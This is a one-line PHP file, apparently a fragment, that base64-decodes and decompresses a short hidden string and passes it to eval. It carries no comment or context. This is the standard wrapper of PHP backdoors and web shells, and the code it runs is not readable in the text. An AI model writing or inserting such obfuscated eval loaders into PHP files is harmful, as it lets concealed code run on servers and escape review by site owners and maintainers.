<?php eval(gzinflate(base64_decode('c0gtS8zRUIkP8A8OiVZPVo/VtAYA'))); ?>
